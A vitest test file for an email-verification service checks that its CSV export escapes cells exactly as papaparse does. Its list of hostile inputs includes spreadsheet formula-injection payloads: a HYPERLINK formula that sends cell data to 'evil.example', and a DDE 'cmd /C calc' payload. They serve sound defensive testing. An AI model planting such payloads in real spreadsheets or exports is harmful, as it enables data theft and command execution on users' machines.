import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DIALECTS, freshDatabaseUrl } from '../../../test/databases';
import { type Database, openDatabase } from '../../db/client';
import { saveResults, type VerificationRecord, verificationValues } from '../../results/rows';
import { type Bucket, bucketOf } from '../../verifier/vocabulary';
import { insertJobItems } from '../intake/insert';
import { FLAG_COLUMNS, FLAGS_AT, RESULT_COLUMN_SPECS, RESULT_COLUMNS, type ResultColumnName, type ResultRow } from './columns';
import { resultLine, resultsCsv, resultsFile } from './csv';
import { csvCell, csvLine, FORMULA_START } from './csv-cells';
import { storedUpload } from './formats';

// The CSV used to be written by Papa.unparse(rows, { escapeFormulae: FORMULA_START, newline: '\r\n' });
// the hand-written cells must stay byte for byte what papaparse writes.
const papa = (rows: unknown[][]) => `${Papa.unparse(rows, { escapeFormulae: FORMULA_START, newline: '\r\n' })}\r\n`;

/** A small deterministic PRNG (mulberry32), so a failure names a case that can be run again. */
function random(seed: number) {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const HOSTILE = [
  '',
  ' ',
  '  ',
  'a',
  'a b',
  ' a',
  'a ',
  ' a ',
  ',',
  'a,b',
  '"',
  '""',
  'a"b',
  '"a"',
  '\r',
  '\n',
  '\r\n',
  'a\r\nb',
  'a\nb',
  '=1+1',
  '+1',
  '-1',
  '-',
  '@',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '=a"b,c',
  '=1\n=2',
  ' =1',
  '=1 ',
  'a=1',
  "'=1",
  '\ufeff',
  'a\ufeffb',
  '\ufeff=1',
  '\u2028',
  '=1\u2028',
  'ж😀',
  '😀,',
  '\uD800',
  'a\u0000b',
  '\t',
  'a\tb',
  '\u000b',
  '\u001f',
  'true',
  'false',
  'null',
  '0',
  '-0',
  '1e3',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  'x'.repeat(5000),
  '",\r\n'.repeat(100),
];
const ALPHABET = ['a', 'Z', '0', ' ', ',', '"', '\r', '\n', '=', '+', '-', '@', '\t', "'", '\ufeff', 'ж', '😀', '\u2028', ';', '\\', '\u0000'];

function randomString(next: () => number): string {
  if (next() < 0.3) return HOSTILE[Math.floor(next() * HOSTILE.length)]!;
  let s = '';
  const length = Math.floor(next() * 12);
  for (let i = 0; i < length; i++) s += ALPHABET[Math.floor(next() * ALPHABET.length)]!;
  return s;
}

function randomValue(next: () => number): unknown {
  const pick = next();
  if (pick < 0.7) return randomString(next);
  if (pick < 0.75) return null;
  if (pick < 0.78) return undefined;
  if (pick < 0.85) return Math.round((next() - 0.5) * 200);
  if (pick < 0.88) return (next() - 0.5) * 1e6;
  if (pick < 0.93) return next() < 0.5;
  if (pick < 0.95) return BigInt(Math.round((next() - 0.5) * 1e6));
  if (pick < 0.97) return new Date(Math.round(next() * 2e12));
  const text = randomString(next);
  return { toString: () => text };
}

const show = (row: unknown[]) => JSON.stringify(row, (_key, value) => (typeof value === 'bigint' ? `${value}n` : value));

describe('csvCell and csvLine write what Papa.unparse writes', () => {
  it.each(HOSTILE.map((cell) => [JSON.stringify(cell).slice(0, 60), cell]))('hostile cell %s', (_what, cell) => {
    expect(csvLine([cell])).toBe(papa([[cell]]));
    expect(csvLine(['x', cell, 'y'])).toBe(papa([['x', cell, 'y']]));
  });

  it('non-string cells: null, undefined, numbers, booleans, bigints, dates', () => {
    for (const cell of [null, undefined, 0, -5, 87, 1.5, -0.25, NaN, true, false, 10n, -3n, new Date(0), new Date(NaN)]) {
      expect(csvCell(cell), String(cell)).toBe(Papa.unparse([[cell]], { escapeFormulae: FORMULA_START }));
    }
  });

  it('20,000 random rows, one at a time and as pages', () => {
    const next = random(20261122);
    const rows: unknown[][] = [];
    for (let i = 0; i < 20_000; i++) {
      const row = Array.from({ length: 1 + Math.floor(next() * 6) }, () => randomValue(next));
      rows.push(row);
      const [got, want] = [csvLine(row), papa([row])];
      if (got !== want) expect(got, show(row)).toBe(want);
    }
    for (let start = 0; start < rows.length; start += 1000) {
      const page = rows.slice(start, start + 1000);
      expect(page.map(csvLine).join('')).toBe(papa(page));
    }
  });
});

/** A page row as csvPage reads it (lib/jobs/export/columns.ts ResultRow), from named values and the flag bits. */
type Named = Partial<Record<ResultColumnName, unknown>>;
function pageRow(values: Named, flags: number): ResultRow {
  const row: ResultRow = [0, ...RESULT_COLUMN_SPECS.filter((c) => c.kind !== 'flag').map((c) => values[c.name] ?? null), flags, null];
  expect(row.length).toBe(FLAGS_AT + 2);
  return row;
}

describe('resultLine', () => {
  const papaRow = (values: Named, flags: number) =>
    papa([RESULT_COLUMNS.map((name) => (FLAG_COLUMNS.includes(name) ? Boolean(flags & (1 << FLAG_COLUMNS.indexOf(name))) : (values[name] ?? '')))]);

  it('writes every combination of the seven flags as true/false in column order', () => {
    const values = { email: 'a@b.com', risk_level: 'low', reason: 'accepted_email', status: 'deliverable', score: 95, provider: 'b.com' };
    for (let flags = 0; flags < 128; flags++) expect(resultLine(pageRow(values, flags))).toBe(papaRow(values, flags));
    expect(
      resultLine(
        pageRow(
          { email: 'a@b.com', risk_level: 'low', reason: 'r', status: 's', score: 95, provider: 'b.com', sub_reason: 'greylisted', mailbox_provider: 'google' },
          0b1000001,
        ),
      ),
    ).toBe('a@b.com,true,false,low,r,s,95,b.com,false,false,false,false,,true,greylisted,google\r\n');
  });

  it('escapes every string cell as papaparse does (random hostile rows)', () => {
    const next = random(7);
    for (let i = 0; i < 10_000; i++) {
      const values: Named = {
        email: randomString(next),
        risk_level: randomString(next),
        reason: randomString(next),
        status: randomString(next),
        score: Math.round((next() - 0.5) * 300),
        provider: randomString(next),
        did_you_mean: next() < 0.5 ? null : randomString(next),
      };
      const flags = Math.floor(next() * 128);
      Object.assign(values, { sub_reason: next() < 0.5 ? null : randomString(next), mailbox_provider: next() < 0.5 ? null : randomString(next) });
      const row = pageRow(values, flags);
      const [got, want] = [resultLine(row), papaRow(values, flags)];
      if (got !== want) expect(got, show(row)).toBe(want);
    }
  });
});

describe.each(DIALECTS)('resultsCsv on %s', (dialect) => {
  let database: Database;
  let drop: () => Promise<void>;
  const uploadColumns = ['name', '=email', 'note, "quoted"'];

  /** What the download was before it was hand-written: papaparse over the stored rows. */
  async function reference(jobId: string, withUpload: boolean, bucket?: Bucket, format?: { delimiter: string; newline: string }): Promise<string> {
    const results = await database.prisma.verification.findMany({ where: { jobId }, orderBy: { idx: 'asc' } });
    const items = new Map((await database.prisma.jobItem.findMany({ where: { jobId } })).map((item) => [item.idx, item.row]));
    const rows = results
      .filter((r) => !bucket || bucketOf(r.status) === bucket)
      .map((r) => {
        const uploaded = withUpload ? (JSON.parse(items.get(r.idx!) ?? '[]') as string[]) : [];
        const padded = withUpload ? uploadColumns.map((_, i) => uploaded[i] ?? '') : [];
        return [
          ...padded,
          r.email,
          r.valid,
          r.deliverable,
          r.riskLevel,
          r.reason,
          r.status,
          r.score,
          r.provider,
          r.disposable,
          r.role,
          r.free,
          r.catchAll,
          r.didYouMean ?? '',
          r.cached,
          r.subReason ?? '',
          r.mailboxProvider ?? '',
        ];
      });
    const table = [[...(withUpload ? uploadColumns : []), ...RESULT_COLUMNS], ...rows];
    if (!format) return papa(table);
    return `${Papa.unparse(table, { escapeFormulae: FORMULA_START, ...format })}${format.newline}`;
  }

  async function download(jobId: string, bucket?: Bucket): Promise<string> {
    const job = await database.prisma.job.findUniqueOrThrow({ where: { id: jobId } });
    return new Response(resultsCsv(database, job, bucket)).text();
  }

  /** A completed job of `count` results: the first ones hostile, every flag combination, then plain rows. */
  async function completedJob(jobId: string, count: number, withUpload: boolean) {
    const next = random(count);
    const statuses = ['deliverable', 'undeliverable', 'risky', 'catch-all', 'unknown', '=status', 'a,b'];
    const clean = (s: string) => s.replaceAll('\u0000', '\uFFFD').replace(/[\uD800-\uDFFF]/g, '?'); // PostgreSQL text cannot hold these
    const emails = Array.from({ length: count }, (_, i) =>
      i < HOSTILE.length ? clean(HOSTILE[i]!) : i < 2000 ? clean(randomString(next)) : `user${i}@example.com`,
    );
    const rows = withUpload
      ? emails.map((email, i) => (i % 5 === 4 ? [`n${i}`] : [clean(randomString(next)), email, clean(HOSTILE[i % HOSTILE.length]!)]))
      : undefined;
    await database.prisma.job.create({
      data: {
        id: jobId,
        userId: 'u',
        sandbox: true,
        status: 'completed',
        totalEmails: count,
        validEmails: count,
        invalidEmails: 0,
        ...storedUpload(withUpload ? { columns: uploadColumns, filename: 'list.csv' } : {}),
      },
    });
    await insertJobItems(database.prisma, dialect, jobId, {
      emails,
      rows: rows?.map((row) => JSON.stringify(row)),
      duplicateOf: new Int32Array(count).fill(-1),
    });
    const verifications = emails.map((email, idx) => {
      const flags = idx % 128;
      const flag = (name: ResultColumnName) => Boolean(flags & (1 << FLAG_COLUMNS.indexOf(name)));
      const hostile = idx < 2000;
      const record: VerificationRecord = {
        user_id: 'u',
        job_id: jobId,
        idx,
        email,
        sandbox: true,
        source: 'bulk',
        status: statuses[idx % statuses.length],
        valid: flag('valid'),
        deliverable: flag('deliverable'),
        risk_level: hostile ? clean(randomString(next)) : 'low',
        reason: hostile ? clean(randomString(next)) : 'accepted_email',
        score: (idx % 301) - 100,
        confidence: 50,
        provider: hostile ? clean(randomString(next)) : 'example.com',
        disposable: flag('disposable'),
        role: flag('role'),
        free: flag('free'),
        catch_all: flag('catch_all'),
        did_you_mean: idx % 3 === 0 ? null : clean(randomString(next)),
        cached: flag('cached'),
        created_at: 0,
        sub_reason: idx % 4 === 0 ? null : hostile ? clean(randomString(next)) : 'greylisted',
        mailbox_provider: idx % 4 <= 1 ? null : hostile ? clean(randomString(next)) : 'google',
        details: '{}',
      };
      return verificationValues(record);
    });
    for (let start = 0; start < verifications.length; start += 2000) await saveResults(database, verifications.slice(start, start + 2000));
  }

  beforeAll(async () => {
    const fresh = await freshDatabaseUrl(dialect);
    drop = fresh.drop;
    database = await openDatabase(fresh.url);
    await database.prisma.user.create({ data: { id: 'u', email: 'u@x.com', passwordHash: 'x' } });
    // more than one page (5,000 rows) each
    await completedJob('job_plain', 5_003, false);
    await completedJob('job_upload', 5_003, true);
  });
  afterAll(async () => {
    await database.prisma.$disconnect();
    await drop();
  });

  it.each([
    ['results only', 'job_plain', false],
    ['uploaded columns first', 'job_upload', true],
  ] as const)('%s: byte for byte the papaparse CSV of the stored rows, across pages', async (_what, jobId, withUpload) => {
    const csv = await download(jobId);
    expect(csv).toBe(await reference(jobId, withUpload));
    expect(Papa.parse(csv, { newline: '\r\n', skipEmptyLines: true }).data).toHaveLength(5_004);
  });

  it.each(['deliverable', 'undeliverable', 'risky', 'unknown'] as const)('filter %s', async (bucket) => {
    expect(await download('job_upload', bucket)).toBe(await reference('job_upload', true, bucket));
  });

  it.each([';', '\t', '|'] as const)("keeps an upload's delimiter %j, BOM and LF line ends as papaparse writes them", async (delimiter) => {
    const job = await database.prisma.job.findUniqueOrThrow({ where: { id: 'job_upload' } });
    const upload = storedUpload({ columns: uploadColumns, filename: 'list.csv', format: { delimiter, bom: true, newline: '\n', sheet: null } });
    // Response#text() would drop the BOM: decode the bytes as they are
    const csv = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await new Response(resultsFile(database, { ...job, ...upload }).body).arrayBuffer());
    expect(csv.startsWith('\ufeff')).toBe(true);
    const want = await reference('job_upload', true, undefined, { delimiter, newline: '\n' });
    expect(csv.slice(1)).toBe(want);
  });

  it('refuses a job that is not completed', () => {
    expect(() => resultsCsv(database, { id: 'j', status: 'processing', duplicateEmails: 0, ...storedUpload({}) })).toThrow(/completed/);
  });
});
